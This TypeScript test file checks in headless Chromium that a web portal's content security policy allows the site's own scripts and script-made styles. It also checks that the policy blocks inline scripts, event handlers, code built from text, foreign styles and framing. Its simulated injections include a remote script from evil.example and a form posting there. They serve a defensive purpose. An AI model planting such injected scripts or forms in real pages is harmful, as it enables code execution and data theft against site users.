/** The content security policy, in a browser: what our pages need works, and what an attacker would add does not. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fastify from 'fastify'
import { chromium } from 'playwright-core'
import { expect, test } from 'vitest'
import { securityHeaders } from './headers.ts'

const ownPage = `<!doctype html><title>portal</title>
<body onload="document.title = 'an attribute ran'">
<p id="styled" style="color: rgb(9, 9, 9)">styled</p>
<img id="broken" src="data:," onerror="document.title = 'an image ran'">
<script>document.title = 'an inline script ran'</script>
<script src="/own.js"></script>`

/** As Fluent UI makes its styles; then as somebody would who can put elements into the page. */
const ownScript = `
const own = document.createElement('style')
document.head.append(own)
own.sheet.insertRule('#styled { margin-top: 7px }')
document.getElementById('styled').style.paddingTop = '3px'
const foreign = document.createElement('style')
foreign.textContent = '#styled { border-top: 5px solid red }'
document.head.append(foreign)
const form = document.createElement('form')
form.action = 'https://evil.example/'
document.body.append(form)
try { new Function('document.title = "text ran as code"')() } catch {}
const remote = document.createElement('script')
remote.src = 'https://evil.example/x.js'
document.body.append(remote)
`

test('own files and styles made by script work; inline scripts, code from text, foreign styles and frames do not', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'landfall-csp-'))
  const app = fastify()
  app.addHook('onRequest', async (_request, reply) => void reply.headers(securityHeaders))
  app.get('/', async (_request, reply) => reply.type('text/html').send(ownPage))
  app.get('/own.js', async (_request, reply) => reply.type('text/javascript').send(ownScript))
  const url = await app.listen({ host: '127.0.0.1', port: 0 })
  mkdirSync(join(dir, 'frame'))
  writeFileSync(join(dir, 'frame/index.html'), `<iframe id="framed" src="${url}/"></iframe>`)
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox'],
  })
  try {
    const page = await browser.newPage()
    await page.goto(url, { waitUntil: 'load' })
    const seen = await page.evaluate(() => {
      const { marginTop, paddingTop, borderTopWidth, color } = getComputedStyle(
        document.querySelector('#styled') ?? document.body,
      )
      return { title: document.title, marginTop, paddingTop, borderTopWidth, color }
    })
    expect(seen).toEqual({
      title: 'portal',
      marginTop: '7px',
      paddingTop: '3px',
      borderTopWidth: '0px',
      color: 'rgb(0, 0, 0)',
    })
    await page.goto(`file://${join(dir, 'frame/index.html')}`)
    const framed = page.frames().find((frame) => frame !== page.mainFrame())
    expect(await framed?.locator('#styled').count()).toBe(0)
  } finally {
    await browser.close()
    await app.close()
    rmSync(dir, { recursive: true, force: true })
  }
})
